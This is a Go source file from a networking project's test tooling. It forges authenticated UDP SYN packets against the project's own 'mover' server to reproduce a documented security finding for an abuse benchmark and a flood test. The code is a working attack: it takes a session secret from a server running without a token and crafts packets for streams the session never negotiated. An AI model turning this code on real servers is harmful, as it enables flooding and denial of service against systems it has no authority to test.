// Package forge crafts what an attacker sends a mover server over UDP
// (issue 28, finding 8): it opens a session as any client of a server
// without a token may, and so learns the session's secret, then forges
// authenticated SYNs of the UDP transport for stream ids the session
// never negotiated. bench/abuse/udpsyn and the e2e flood test share it.
package forge

import (
	"bufio"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"net"
	"time"

	"github.com/lightpath/lightpath/internal/wire"
)

// OpenUDPSession opens a mover session over UDP asking for one stream (a
// bench) on the server at addr, which must run without a token: the
// server hands over the session's secret. It returns the control
// connection (which keeps the session alive; the caller closes it), the
// session, and the key its UDP streams authenticate under.
func OpenUDPSession(addr string) (net.Conn, [16]byte, []byte, error) {
	var session [16]byte
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, session, nil, err
	}
	session, key, err := request(c)
	if err != nil {
		c.Close()
		return nil, session, nil, err
	}
	return c, session, key, nil
}

func request(c net.Conn) ([16]byte, []byte, error) {
	var session [16]byte
	var nonce [wire.NonceSize]byte
	rand.Read(nonce[:])
	nonce[wire.NonceSize-1] = '\n'
	if _, err := c.Write(wire.AppendHello(nil, wire.Hello{MinVersion: wire.MinVersion, MaxVersion: wire.MaxVersion, Kind: wire.KindControl, Nonce: nonce})); err != nil {
		return session, nil, err
	}
	r := wire.NewReader(bufio.NewReader(c))
	m, err := r.Read()
	if err != nil {
		return session, nil, fmt.Errorf("hello: %w", err)
	}
	ok, isOK := m.(*wire.HelloOK)
	if !isOK || ok.AuthRequired {
		return session, nil, fmt.Errorf("hello answered %T (a server without a token expected)", m)
	}
	r.Version = ok.Version
	w := wire.NewWriter(c)
	if err := w.Write(&wire.Transport{Name: "udp"}); err != nil {
		return session, nil, err
	}
	if err := w.Send(&wire.Bench{Streams: 1, Duration: int64(time.Second)}); err != nil {
		return session, nil, err
	}
	m, err = r.Read()
	if err != nil {
		return session, nil, fmt.Errorf("request: %w", err)
	}
	acc, isAcc := m.(*wire.Accept)
	if !isAcc || len(acc.Secret) == 0 {
		return session, nil, fmt.Errorf("request answered %+v", m)
	}
	h := hmac.New(sha256.New, acc.Secret)
	h.Write([]byte("lightpath v1 udp key"))
	h.Write(acc.Session[:])
	return acc.Session, h.Sum(nil), nil
}

// UDPSyn is a SYN of the UDP transport for stream of session (docs/udp.md:
// header, body, GMAC under the dialler's key of the stream), with a fresh
// random, authenticated under key as OpenUDPSession returns it.
func UDPSyn(key []byte, session [16]byte, stream uint32) []byte {
	var random [16]byte
	rand.Read(random[:])
	m := hmac.New(sha256.New, key)
	m.Write([]byte("lightpath-udp-1"))
	m.Write(session[:])
	m.Write(binary.BigEndian.AppendUint32(nil, stream))
	m.Write(random[:])
	m.Write([]byte{'c'})
	block, _ := aes.NewCipher(m.Sum(nil)[:16])
	gcm, _ := cipher.NewGCM(block)
	const pn = 1
	b := make([]byte, 32, 128)
	b[0], b[1] = 2, 1 // version 2, SYN
	binary.BigEndian.PutUint32(b[4:], stream)
	copy(b[8:24], session[:])
	binary.BigEndian.PutUint64(b[24:], pn)
	b = append(b, random[:]...)
	b = binary.BigEndian.AppendUint64(b, 4<<20)
	b = binary.BigEndian.AppendUint16(b, 1500)
	var n [12]byte
	binary.BigEndian.PutUint64(n[4:], pn)
	return gcm.Seal(b, n[:], nil, b)
}
